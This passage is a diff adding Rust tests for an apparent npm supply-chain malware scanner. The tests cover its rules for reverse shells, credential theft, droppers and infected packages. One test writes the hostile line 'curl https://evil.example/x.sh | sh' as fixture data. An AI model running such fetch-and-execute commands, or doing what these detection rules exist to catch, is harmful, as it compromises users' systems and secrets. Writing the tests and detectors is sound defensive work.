+        let dir = std::env::temp_dir().join(format!("shk-flood-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        // Thousands of matching lines in a single file
+        let flood = "curl https://evil.example/x.sh | sh\n".repeat(5_000);
+        std::fs::write(dir.join("flood.sh"), flood).unwrap();
+
+        let results = scan_directory_sync(&dir, &ScanConfig::default()).expect("Scan should succeed");
+        let capped = scan_directory_sync(
+            &dir,
+            &ScanConfig { max_findings_per_file: Some(10), ..Default::default() },
+        )
+        .expect("Scan should succeed");
+        let _ = std::fs::remove_dir_all(&dir);
+
+        assert_eq!(results.findings.len(), DEFAULT_MAX_FINDINGS_PER_FILE + 1);
+        let last = results.findings.last().unwrap();
+        assert_eq!(last.rule_id, "file/truncated");
+        assert_eq!(last.description, format!("Truncated: {}+ matches in this file", DEFAULT_MAX_FINDINGS_PER_FILE));
+
+        assert_eq!(capped.findings.len(), 11);
+        assert_eq!(capped.findings[10].description, "Truncated: 10+ matches in this file");
+
+        println!("✓ Per-file finding cap test passed");
+    }
+
+    #[test]
+    fn test_json_schema_version() {
+        let config = ScanConfig {
+            include_node_modules: false,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/clean");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let json = serde_json::to_value(&results).expect("Results should serialize to JSON");
+        assert_eq!(json["schema_version"], SCHEMA_VERSION);
+        assert_eq!(json["tool_version"], env!("CARGO_PKG_VERSION"));
+        assert_eq!(json["ioc_version"], IOC_VERSION);
+
+        println!("✓ JSON schema version test passed");
+    }
+
+    #[test]
+    fn test_json_includes_effective_config() {
+        let config = ScanConfig {
+            include_node_modules: true,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples/clean");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let json = serde_json::to_value(&results).expect("Results should serialize to JSON");
+        assert_eq!(json["config"]["include_node_modules"], true);
+        assert!(json["config"]["skip_dirs"].as_array().is_some_and(|d| !d.is_empty()));
+        assert!(json["config"]["extensions"].as_array().is_some_and(|e| !e.is_empty()));
+        assert!(json["config"]["threads"].as_u64().is_some_and(|t| t > 0));
+
+        println!("✓ Effective config test passed");
+    }
+
+    #[test]
+    fn test_every_reported_rule_is_explainable() {
+        let config = ScanConfig {
+            include_node_modules: true,
+            ..Default::default()
+        };
+        let path = Path::new("test_samples");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        for finding in &results.findings {
+            assert!(
+                commands::find_rule(&finding.rule_id).is_some(),
+                "No explanation for rule id {}",
+                finding.rule_id
+            );
+        }
+        assert!(commands::find_rule("custom/anything").is_some());
+        assert!(commands::find_rule("content/not-a-rule").is_none());
+
+        assert_eq!(commands::split_spec("@ctrl/tinycolor@4.1.1"), ("@ctrl/tinycolor", Some("4.1.1")));
+        assert_eq!(commands::split_spec("@ctrl/tinycolor"), ("@ctrl/tinycolor", None));
+        assert_eq!(commands::split_spec("left-pad@1.3.0"), ("left-pad", Some("1.3.0")));
+
+        println!("✓ Rule explanation coverage test passed");
+    }
+
+    #[test]
+    fn test_skip_dirs_configurable() {
+        let path = Path::new("test_samples/skip_dirs");
+        let flagged = |config: &ScanConfig| {
+            let results = scan_directory_sync(path, config).expect("Scan should succeed");
+            let mut names: Vec<_> = results
+                .findings
+                .iter()
+                .filter(|f| f.rule_id == "file/malicious-name")
+                .map(|f| f.path.clone())
+                .collect();
+            names.sort();
+            names
+        };
+
+        // dist/ is skipped by default
+        let default = flagged(&ScanConfig::default());
+        assert_eq!(default.len(), 1);
+        assert!(default[0].ends_with("bun_environment.js"));
+
+        let everything = flagged(&ScanConfig {
+            no_skip_dirs: true,
+            ..Default::default()
+        });
+        assert_eq!(everything.len(), 2);
+
+        let custom = flagged(&ScanConfig {
+            extra_skip_dirs: vec!["generated".to_string()],
+            ..Default::default()
+        });
+        assert!(custom.is_empty());
+
+        // A skipped name is still scanned when it is the scan root
+        let root = scan_directory_sync(Path::new("test_samples/skip_dirs/dist"), &ScanConfig::default())
+            .expect("Scan should succeed");
+        assert_eq!(root.findings.len(), 1);
+
+        println!("✓ Configurable skip dirs test passed");
+    }
+
+    #[test]
+    fn test_repo_creation_exfiltration() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/repo_exfil");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let exfil: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "sequence/github-repo-creation-with-credential-upload")
+            .collect();
+        assert_eq!(exfil.len(), 1, "Only the credential upload should be flagged");
+        assert!(exfil[0].path.ends_with("publish_results.js"));
+        assert_eq!(exfil[0].severity, Severity::Critical);
+
+        // Creating a repo and committing a README is ordinary octokit usage
+        assert!(!results
+            .findings
+            .iter()
+            .any(|f| f.path.ends_with("create_repo.js") && f.severity == Severity::Critical));
+
+        println!("✓ Repo creation exfiltration test passed");
+    }
+
+    #[test]
+    fn test_github_cli_credential_access() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/gh_cli");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let rule_for = |file: &str| {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.path.ends_with(file))
+                .map(|f| f.rule_id.as_str())
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(rule_for("show_token.sh"), ["content/github-cli-token-display"]);
+        assert_eq!(rule_for("status_short_flag.sh"), ["content/github-cli-token-display"]);
+        assert_eq!(rule_for("hosts_literal.js"), ["content/github-cli-credential-file-access"]);
+        assert_eq!(rule_for("hosts_join.js"), ["content/github-cli-credential-file-access"]);
+        assert!(rule_for("login_check.sh").is_empty(), "Plain `gh auth status` is benign");
+        assert!(results.findings.iter().all(|f| f.severity == Severity::High));
+
+        println!("✓ GitHub CLI credential access test passed");
+    }
+
+    #[test]
+    fn test_ssh_key_access_detected() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/ssh_keys");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let count = |rule_id: &str| results.findings.iter().filter(|f| f.rule_id == rule_id).count();
+        assert_eq!(count("content/ssh-private-key-file-access"), 2);
+        assert_eq!(count("content/ssh-config-or-known-hosts-access"), 1);
+
+        let key = results
+            .findings
+            .iter()
+            .find(|f| f.rule_id == "content/embedded-ssh-private-key")
+            .expect("Inline private key should be flagged");
+        assert_eq!(key.severity, Severity::Critical);
+        let context = key.context.as_deref().unwrap_or_default();
+        assert!(context.contains("[REDACTED]"));
+        assert!(!context.contains("b3BlbnNzaC1rZXktdjEAAAAA"), "Key body must not leak into context");
+
+        // Reading a public key or running ssh is not key theft
+        let edge = scan_directory_sync(Path::new("test_samples/edge_cases"), &config)
+            .expect("Scan should succeed");
+        assert!(!edge.findings.iter().any(|f| f.path.ends_with("ssh_deploy_notes.js")));
+
+        println!("✓ SSH key access test passed");
+    }
+
+    #[test]
+    fn test_min_severity_filter() {
+        let path = Path::new("test_samples/edge_cases");
+        let all = scan_directory_sync(path, &ScanConfig::default()).expect("Scan should succeed");
+        let config = ScanConfig {
+            min_severity: Some(Severity::High),
+            ..Default::default()
+        };
+        let high = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        assert!(high.findings.len() < all.findings.len());
+        assert!(high.findings.iter().all(|f| f.severity.at_least(Severity::High)));
+        assert_eq!(
+            high.findings.len(),
+            all.findings.iter().filter(|f| f.severity.at_least(Severity::High)).count()
+        );
+        assert!(Severity::Critical.at_least(Severity::High));
+        assert!(!Severity::Medium.at_least(Severity::High));
+        assert!(Severity::Info.at_least(Severity::Info));
+
+        println!("✓ Minimum severity filter test passed");
+    }
+
+    #[test]
+    fn test_powershell_droppers_detected() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/powershell");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let lines: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "content/remote-code-execution-via-powershell-download")
+            .map(|f| (f.path.rsplit('/').next().unwrap_or_default().to_string(), f.line))
+            .collect();
+        let expected: Vec<_> = (3..=6).map(|line| ("dropper.ps1".to_string(), Some(line))).collect();
+        assert_eq!(lines, expected);
+        assert!(results.findings.iter().all(|f| f.severity == Severity::High));
+
+        // Downloading to a file and running a local command is not download-and-execute
+        assert!(!results.findings.iter().any(|f| f.path.ends_with("build.ps1")));
+
+        println!("✓ PowerShell dropper test passed");
+    }
+
+    #[test]
+    fn test_hidden_and_staged_executables() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/staging");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let hidden = "sequence/dropped-file-hidden-as-a-dotfile-and-made-executable";
+        let staged = "sequence/executable-staged-in-a-temp-directory";
+        let mut found: Vec<_> = results
+            .findings
+            .iter()
+            .map(|f| (f.path.rsplit('/').next().unwrap_or_default(), f.rule_id.as_str()))
+            .collect();
+        found.sort();
+        // make_bin.js chmods its own CLI and uses a temp dir elsewhere: not flagged
+        assert_eq!(found, [("persist.js", hidden), ("persist.js", staged), ("stage.sh", hidden)]);
+        for finding in &results.findings {
+            let expected = if finding.rule_id == hidden { Severity::High } else { Severity::Medium };
+            assert_eq!(finding.severity, expected);
+        }
+
+        println!("✓ Hidden and staged executables test passed");
+    }
+
+    #[test]
+    fn test_scan_content_from_memory() {
+        let config = ScanConfig::default();
+
+        let script = std::fs::read("test_samples/malicious/evil_script.sh").expect("Fixture should exist");
+        let results = scan_content(Path::new("piped.sh"), &script, &config);
+        assert_eq!(results.scanned_files, 1);
+        assert!(!results.findings.is_empty());
+        assert!(results.findings.iter().all(|f| f.path == "piped.sh"));
+
+        // The virtual name drives filename and file-type checks
+        let named = scan_content(Path::new("setup_bun.js"), b"console.log(1);\n", &config);
+        assert!(named.findings.iter().any(|f| f.rule_id == "file/malicious-name"));
+
+        let manifest = std::fs::read("test_samples/aggregate/package.json").expect("Fixture should exist");
+        let as_json = scan_content(Path::new("package.json"), &manifest, &config);
+        assert!(as_json.findings.iter().any(|f| f.rule_id == "package/infected-version"));
+        let as_text = scan_content(Path::new("notes.txt"), &manifest, &config);
+        assert!(as_text.findings.is_empty());
+
+        println!("✓ In-memory content scan test passed");
+    }
+
+    #[test]
+    fn test_credential_store_access() {
+        let config = ScanConfig::default();
+        let path = Path::new("test_samples/credential_stores");
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        let lines = |file: &str, rule_id: &str| {
+            let mut lines: Vec<_> = results
+                .findings
+                .iter()
+                .filter(|f| f.path.ends_with(file) && f.rule_id == rule_id)
+                .filter_map(|f| f.line)
+                .collect();
+            lines.sort();
+            lines
+        };
+        // `security add-trusted-cert` on line 6 is not a credential read
+        assert_eq!(lines("keychain.sh", "content/macos-keychain-access"), [3, 4]);
+        assert_eq!(lines("wincred.ps1", "content/windows-credential-manager-access"), [2, 3, 4]);
+        assert_eq!(lines("browser_logins.js", "content/browser-saved-password-database-access"), [7, 8, 9]);
+        assert!(!results.findings.iter().any(|f| f.path.ends_with("app_logins.js")));
+        assert!(results.findings.iter().all(|f| f.severity == Severity::High));
+
+        println!("✓ Credential store access test passed");
+    }
+
+    #[test]
+    fn test_severity_overrides() {
+        let path = Path::new("test_samples/edge_cases");
+        let rule_id = "content/npm-config-file-access";
+        let baseline = scan_directory_sync(path, &ScanConfig::default()).expect("Scan should succeed");
+        let matching = baseline.findings.iter().filter(|f| f.rule_id == rule_id).count();
+        assert!(matching > 0, "Fixture should trigger {rule_id}");
+
+        let config = ScanConfig {
+            severity_overrides: [(rule_id.to_string(), Severity::Critical)].into(),
+            ..Default::default()
+        };
+        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+
+        assert!(results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == rule_id)
+            .all(|f| f.severity == Severity::Critical));
+        assert_eq!(results.summary.critical, baseline.summary.critical + matching);
+        assert_eq!(results.summary.total, baseline.summary.total);
+
+        let json = serde_json::to_value(&results).expect("Results should serialize to JSON");
+        assert_eq!(json["config"]["severity_overrides"][rule_id], "Critical");
+
+        println!("✓ Severity override test passed");
+    }
+
+    #[test]
+    fn test_shrinkwrap_and_npm_ls_tree() {
+        let config = ScanConfig::default();
+        let packages = |results: &ScanResults| {
+            let mut found: Vec<_> = results
+                .findings
+                .iter()
+                .map(|f| (f.package.clone().unwrap_or_default(), f.rule_id.clone()))
+                .collect();
+            found.sort();
+            found
+        };
+
+        let shrinkwrap = scan_directory_sync(Path::new("test_samples/shrinkwrap"), &config)
+            .expect("Scan should succeed");
+        assert_eq!(
+            packages(&shrinkwrap),
+            [
+                ("wdio-web-reporter@0.1.2".to_string(), "lockfile/targeted".to_string()),
+                ("yoo-styles@6.0.326".to_string(), "lockfile/infected-version".to_string()),
+            ]
+        );
+
+        // Nested dependencies of the tree are walked too
+        let path = Path::new("test_samples/tree/npm-ls.json");
+        let content = std::fs::read_to_string(path).expect("Fixture should exist");
+        let tree = scan_tree(path, &content, &config).expect("Tree should parse");
+        assert_eq!(
+            packages(&tree),
+            [
+                ("wdio-web-reporter@0.1.3".to_string(), "lockfile/infected-version".to_string()),
+                ("yargs-help-output@5.0.3".to_string(), "lockfile/infected-version".to_string()),
+            ]
+        );
+        assert!(scan_tree(path, "not json", &config).is_err());
+
+        println!("✓ Shrinkwrap and npm ls tree test passed");
+    }
+
+    #[test]
+    fn test_hook_detached_processes() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/hook_detached"), &config)
+            .expect("Scan should succeed");
+
+        let mut hooks: Vec<_> = results.findings.iter()
+            .filter(|f| matches!(f.finding_type, FindingType::DangerousHook))
+            .map(|f| (f.description.as_str(), f.severity))
+            .collect();
+        hooks.sort_by_key(|(d, _)| *d);
+
+        // `2>&1 &&` in install and `&` in the non-lifecycle build script are left alone
+        assert_eq!(
+            hooks,
+            vec![
+                ("Backgrounds a process with & in 'preinstall' hook", Severity::High),
+                ("Inline node code execution in 'postinstall' hook", Severity::Critical),
+                ("Starts a detached background process in 'postinstall' hook", Severity::High),
+                ("Starts a detached background process in 'preinstall' hook", Severity::High),
+                ("Starts a detached background process in 'preuninstall' hook", Severity::High),
+            ]
+        );
+
+        println!("✓ detached hook process test passed");
+    }
+
+    #[test]
+    fn test_monorepo_workspace_attribution() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/monorepo"), &config)
+            .expect("Scan should succeed");
+
+        let mut owners: Vec<_> = results.findings.iter()
+            .map(|f| (f.rule_id.as_str(), f.workspace.as_deref()))
+            .collect();
+        owners.sort();
+
+        // Each finding belongs to the nearest package.json; files outside any
+        // workspace package fall back to the root one
+        assert_eq!(
+            owners,
+            vec![
+                ("content/remote-code-execution-via-curl-pipe", Some("@acme/web")),
+                ("content/remote-code-execution-via-wget-pipe", Some("acme-monorepo")),
+                ("package/infected-version", Some("@acme/api")),
+            ]
+        );
+
+        println!("✓ monorepo workspace attribution test passed");
+    }
+
+    #[test]
+    fn test_yarnrc_tokens_and_plugins() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/yarnrc"), &config)
+            .expect("Scan should succeed");
+
+        let yarnrc: Vec<_> = results.findings.iter()
+            .filter(|f| f.rule_id.starts_with("yarnrc/"))
+            .collect();
+        let lines: Vec<_> = yarnrc.iter().map(|f| (f.rule_id.as_str(), f.line.unwrap())).collect();
+
+        // `${ENV}` tokens and plugins imported into .yarn/plugins are left alone
+        assert_eq!(
+            lines,
+            vec![
+                ("yarnrc/hardcoded-token", 3),
+                ("yarnrc/hardcoded-token", 12),
+                ("yarnrc/untrusted-plugin", 19),
+                ("yarnrc/untrusted-plugin", 20),
+                ("yarnrc/untrusted-plugin", 21),
+            ]
+        );
+        assert!(yarnrc.iter().all(|f| f.severity == Severity::High));
+        let contexts: Vec<_> = yarnrc.iter().filter_map(|f| f.context.as_deref()).collect();
+        assert!(contexts.iter().all(|c| !c.contains("npm_0123") && !c.contains("hunter2")));
+
+        println!("✓ .yarnrc.yml test passed");
+    }
+
+    #[test]
+    fn test_hidden_entries() {
+        // The walk always reaches dot-directories, where workflows and configs live
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/workflow_exfil"), &config)
+            .expect("Scan should succeed");
+        assert!(results.findings.iter().any(|f| f.path.contains(".github/workflows/")));
+
+        // The folder browser only lists them with --include-hidden
+        let mut app = crate::app::App::new(Some("test_samples/workflow_exfil".into()), config).unwrap();
+        assert!(!app.entries.iter().any(|e| e.name == ".github"));
+        app.include_hidden = true;
+        app.refresh_entries().unwrap();
+        assert!(app.entries.iter().any(|e| e.name == ".github" && e.is_dir));
+
+        println!("✓ hidden entries test passed");
+    }
+
+    #[test]
+    fn test_clipboard_wallet_hijacking() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/clipboard"), &config)
+            .expect("Scan should succeed");
+
+        let mut found: Vec<_> = results.findings.iter()
+            .map(|f| (f.path.as_str(), f.rule_id.as_str(), f.line.unwrap_or(0), f.severity.as_str()))
+            .collect();
+        found.sort();
+
+        // A copy button is fine; contract addresses alone are only Medium
+        assert_eq!(
+            found,
+            vec![
+                ("contracts.js", "content/hardcoded-crypto-wallet-address", 3, "MEDIUM"),
+                ("contracts.js", "content/hardcoded-crypto-wallet-address", 4, "MEDIUM"),
+                ("wallet-watch.js", "content/hardcoded-crypto-wallet-address", 7, "HIGH"),
+                ("wallet-watch.js", "content/hardcoded-crypto-wallet-address", 8, "HIGH"),
+                ("wallet-watch.js", "sequence/clipboard-hijacking-of-crypto-wallet-addresses", 14, "HIGH"),
+            ]
+        );
+
+        println!("✓ clipboard wallet hijacking test passed");
+    }
+
+    #[test]
+    fn test_compact_results_view() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let count = results.findings.len();
+        let mut app = crate::app::App::new(Some("test_samples".into()), config).unwrap();
+        app.scan_results = Some(results);
+        app.state = crate::app::AppState::Results;
+        app.results_height = 10;
+
+        // Compact: one row per finding, so ten fit before scrolling
+        app.toggle_compact();
+        assert!((0..count).all(|i| app.finding_height(i) == 1));
+        app.select_finding(9);
+        assert_eq!(app.results_scroll, 0);
+        app.select_finding(10);
+        assert_eq!(app.results_scroll, 1);
+        assert_eq!(crate::ui::finding_at_row(&app, 0), Some(1));
+
+        // Expanding the selected finding alone pushes the list up to keep it visible
+        app.toggle_expanded();
+        assert!(app.is_expanded(10) && !app.is_expanded(9));
+        let expanded = app.finding_height(10);
+        assert!(expanded > 1);
+        assert_eq!(app.results_scroll, 1 + expanded - 1);
+
+        // Back to the full view, which drops the per-finding toggles
+        app.toggle_compact();
+        assert!(!app.compact_results && app.toggled_findings.is_empty());
+        assert!((0..count).all(|i| app.is_expanded(i)));
+
+        println!("✓ compact results view test passed");
+    }
+
+    #[test]
+    fn test_deep_rescan_includes_node_modules() {
+        let config = ScanConfig::default();
+        let mut app = crate::app::App::new(Some("test_samples".into()), config).unwrap();
+
+        // Nothing scanned yet, so there's nothing to rescan
+        app.deep_rescan();
+        assert!(app.state == crate::app::AppState::SelectFolder);
+
+        let scan_path = std::path::PathBuf::from("test_samples/hook_bin");
+        app.scan_path = Some(scan_path.clone());
+        app.state = crate::app::AppState::Results;
+        app.deep_rescan();
+
+        assert!(app.state == crate::app::AppState::Scanning);
+        assert!(app.deep_scan && app.config.include_node_modules);
+        assert_eq!(app.scan_path, Some(scan_path));
+
+        println!("✓ deep rescan test passed");
+    }
+
+    #[test]
+    fn test_junit_report() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/yarnrc"), &config)
+            .expect("Scan should succeed");
+        let xml = junit::render(&results);
+
+        assert!(xml.starts_with("<?xml"));
+        let failures = format!("failures=\"{}\"", results.findings.len());
+        assert!(xml.contains(&failures));
+        assert_eq!(xml.matches("<failure ").count(), results.findings.len());
+        assert!(xml.contains(
+            r#"<testcase name="yarnrc/hardcoded-token .yarnrc.yml:3" classname="SuspiciousPattern" file=".yarnrc.yml">"#
+        ));
+        // Attribute values are escaped
+        assert!(xml.contains("&quot;[REDACTED]&quot;"));
+
+        // A clean scan is a suite with one passing test and no failures
+        let results = scan_directory_sync(Path::new("test_samples/clean_project"), &config)
+            .expect("Scan should succeed");
+        let xml = junit::render(&results);
+        assert!(xml.contains(r#"tests="1" failures="0" errors="0""#));
+        assert!(!xml.contains("<failure"));
+
+        println!("✓ JUnit report test passed");
+    }
+
+    #[test]
+    fn test_reverse_shells() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/reverse_shell"), &config)
+            .expect("Scan should succeed");
+
+        let mut shells: Vec<_> = results.findings.iter()
+            .filter(|f| f.rule_id.starts_with("content/reverse-shell"))
+            .map(|f| (f.path.as_str(), f.line.unwrap_or(0), f.rule_id.as_str()))
+            .collect();
+        shells.sort();
+
+        // Port checks and plain forwarding in healthcheck.sh are left alone
+        assert_eq!(
+            shells,
+            vec![
+                ("beacon.sh", 6, "content/reverse-shell-via-dev-tcp"),
+                ("beacon.sh", 7, "content/reverse-shell-via-netcat-exec"),
+                ("beacon.sh", 8, "content/reverse-shell-via-netcat-exec"),
+                ("beacon.sh", 9, "content/reverse-shell-via-socat-exec"),
+                ("dropper.js", 4, "content/reverse-shell-via-dev-tcp"),
+            ]
+        );
+        assert!(results.findings.iter()
+            .filter(|f| f.rule_id.starts_with("content/reverse-shell"))
+            .all(|f| f.severity == Severity::Critical));
+        assert!(!results.findings.iter().any(|f| f.path == "healthcheck.sh"));
+
+        println!("✓ reverse shell test passed");
+    }
+
+    #[test]
+    fn test_max_depth_reports_truncation() {
+        let config = ScanConfig {
+            relative_paths: true,
+            max_depth: Some(2),
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/monorepo"), &config)
+            .expect("Scan should succeed");
+
+        // scripts/release.sh is two levels down; the package sources are deeper
+        assert!(results.findings.iter().any(|f| f.path == "scripts/release.sh"));
+        assert!(!results.findings.iter().any(|f| f.path.starts_with("packages/")));
+        assert_eq!(results.depth_limited, vec!["packages/api", "packages/web"]);
+        assert_eq!(results.config.max_depth, Some(2));
+
+        // Without a limit nothing is cut off
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/monorepo"), &config)
+            .expect("Scan should succeed");
+        assert!(results.depth_limited.is_empty());
+
+        println!("✓ max depth test passed");
+    }
+
+    #[test]
+    fn test_lockfile_nested_scoped_packages() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/lockfile_nested"), &config)
+            .expect("Scan should succeed");
+
+        let mut packages: Vec<_> = results.findings.iter()
+            .map(|f| (f.rule_id.as_str(), f.package.as_deref().unwrap_or("")))
+            .collect();
+        packages.sort();
+
+        // Nested copies resolve to their real (scoped) names, not the key's first segment
+        assert_eq!(
+            packages,
+            vec![
+                ("lockfile/infected-version", "@ctrl/ngx-csv@6.0.2"),
+                ("lockfile/infected-version", "ngx-bootstrap@20.0.4"),
+                ("lockfile/targeted", "@ctrl/ngx-csv@6.0.5"),
+            ]
+        );
+
+        println!("✓ nested scoped lockfile test passed");
+    }
+
+    #[test]
+    fn test_trusted_registry_replaces_default() {
+        // A private-registry shop: the corporate registry is "the" registry, so npmjs
+        // traffic is what stands out
+        let config = ScanConfig {
+            registries: vec!["npm.corp.example".to_string()],
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/registry_override"), &config)
+            .expect("Scan should succeed");
+        let mut overrides: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.rule_id == "registry/override")
+            .map(|f| (f.path.rsplit('/').next().unwrap().to_string(), f.line.unwrap()))
+            .collect();
+        overrides.sort();
+
+        assert_eq!(
+            overrides,
+            vec![
+                (".npmrc".to_string(), 1),
+                ("bootstrap.sh".to_string(), 5),
+                ("bootstrap.sh".to_string(), 6),
+                ("bootstrap.sh".to_string(), 7),
+            ]
+        );
+        assert_eq!(results.config.trusted_registries, vec!["npm.corp.example"]);
+        assert_eq!(
+            ScanConfig::default().trusted_registries(),
+            vec!["registry.npmjs.org", "registry.yarnpkg.com"]
+        );
+
+        println!("✓ Trusted registry test passed");
+    }
+
+    #[test]
+    fn test_cache_reuses_unchanged_files() {
+        let cache_path = std::env::temp_dir().join(format!("shk-cache-{}.json", std::process::id()));
+        let _ = std::fs::remove_file(&cache_path);
+        let config = ScanConfig {
+            cache: Some(cache_path.clone()),
+            relative_paths: true,
+            ..Default::default()
+        };
+        let root = Path::new("test_samples/malicious");
+
+        let cold = scan_directory_sync(root, &config).expect("Scan should succeed");
+        assert_eq!(cold.stats.cache_hits, 0);
+        assert!(cold.stats.cache_misses > 0);
+
+        let warm = scan_directory_sync(root, &config).expect("Scan should succeed");
+        assert_eq!(warm.stats.cache_hits, cold.stats.cache_misses);
+        assert_eq!(warm.stats.cache_misses, 0);
+        let summary = |results: &ScanResults| {
+            let mut found: Vec<_> =
+                results.findings.iter().map(|f| (f.path.clone(), f.rule_id.clone(), f.line)).collect();
+            found.sort();
+            found
+        };
+        assert_eq!(summary(&warm), summary(&cold));
+
+        // Different settings can change per-file findings, so they start over
+        let no_hash = ScanConfig { no_hash: true, ..config };
+        let rescan = scan_directory_sync(root, &no_hash).expect("Scan should succeed");
+        assert_eq!(rescan.stats.cache_hits, 0);
+
+        let _ = std::fs::remove_file(&cache_path);
+        println!("✓ Scan cache test passed");
+    }
+
+    #[test]
+    fn test_obfuscated_access_detected() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/obfuscated_access"), &config)
+            .expect("Scan should succeed");
+
+        // The loader spells out no dangerous name, so only the new check sees it
+        let mut found: Vec<_> = results
+            .findings
+            .iter()
+            .map(|f| (f.path.as_str(), f.rule_id.as_str(), f.description.as_str(), f.severity))
+            .collect();
+        found.sort_by_key(|f| f.2);
+        assert_eq!(
+            found,
+            vec![
+                ("loader.js", "content/obfuscated-access", "Obfuscated access to `child_process`", Severity::Medium),
+                ("loader.js", "content/obfuscated-access", "Obfuscated access to `env`", Severity::Medium),
+                ("loader.js", "content/obfuscated-access", "Obfuscated access to `execSync`", Severity::Medium),
+                ("loader.js", "content/obfuscated-access", "Obfuscated access to `process`", Severity::Medium),
+                ("loader.js", "content/obfuscated-access", "Obfuscated access to `require`", Severity::Medium),
+            ]
+        );
+
+        println!("✓ Obfuscated access test passed");
+    }
+
+    #[test]
+    fn test_format_all_writes_every_report() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/obfuscated_access"), &config)
+            .expect("Scan should succeed");
+        let dir = std::env::temp_dir().join(format!("shk-reports-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+
+        crate::write_reports(&dir, &results).expect("Reports should be written");
+        let read = |name: &str| std::fs::read_to_string(dir.join(name)).expect("Report should exist");
+
+        let json: serde_json::Value = serde_json::from_str(&read("report.json")).unwrap();
+        assert_eq!(json["findings"].as_array().unwrap().len(), 5);
+
+        let sarif: serde_json::Value = serde_json::from_str(&read("report.sarif")).unwrap();
+        assert_eq!(sarif["version"], "2.1.0");
+        let sarif_results = sarif["runs"][0]["results"].as_array().unwrap();
+        assert_eq!(sarif_results.len(), 5);
+        assert_eq!(sarif_results[0]["ruleId"], "content/obfuscated-access");
+        assert_eq!(sarif_results[0]["level"], "warning");
+        assert_eq!(sarif_results[0]["locations"][0]["physicalLocation"]["region"]["startLine"], 4);
+
+        // Header plus one row per finding; quotes in the context are doubled
+        let csv = read("report.csv");
+        assert_eq!(csv.lines().count(), 6);
+        assert!(csv.contains(r#""const env = g[""en"" + ""v""];""#));
+
+        let md = read("report.md");
+        assert!(md.contains("| MEDIUM | `content/obfuscated-access` | loader.js:7 |"));
+
+        let _ = std::fs::remove_dir_all(&dir);
+        println!("✓ Format all test passed");
+    }
+
+    #[test]
+    fn test_lockfile_declared_dependency_detected() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/lockfile_declared"), &config)
+            .expect("Scan should succeed");
+        let found: Vec<_> = results
+            .findings
+            .iter()
+            .map(|f| (f.rule_id.as_str(), f.package.as_deref().unwrap_or_default(), f.severity))
+            .collect();
+
+        // The optional dependency has no entry of its own; the regular one is
+        // reported once, for its resolved entry. A range starting at an infected
+        // version is judged by what it resolved to (`^4.1.1` -> 4.1.5), and a range
+        // with no entry (`^2.0.28`) isn't reported at all
+        assert_eq!(
+            found,
+            vec![
+                ("lockfile/infected-version", "@ctrl/ngx-csv@6.0.2", Severity::Critical),
+                ("lockfile/targeted", "@ctrl/tinycolor@4.1.5", Severity::Medium),
+                ("lockfile/infected-dependency", "@ahmedhfarag/ngx-virtual-scroller@4.0.4", Severity::Critical),
+            ]
+        );
+        assert!(results.findings[2].description.contains("optionalDependencies of grid-kit"));
+
+        println!("✓ Lockfile declared dependency test passed");
+    }
+
+    #[test]
+    fn test_count_line() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/lockfile_declared"), &config)
+            .expect("Scan should succeed");
+
+        assert_eq!(crate::count_line(&results), "critical=2 high=0 medium=1 low=0 info=0 total=3 files=1");
+
+        println!("✓ Count line test passed");
+    }
+
+    #[test]
+    fn test_remote_dependency_specs() {
+        let config = ScanConfig { relative_paths: true, ..Default::default() };
+        let results = scan_directory_sync(Path::new("test_samples/remote_deps"), &config)
+            .expect("Scan should succeed");
+        let mut found: Vec<_> = results
+            .findings
+            .iter()
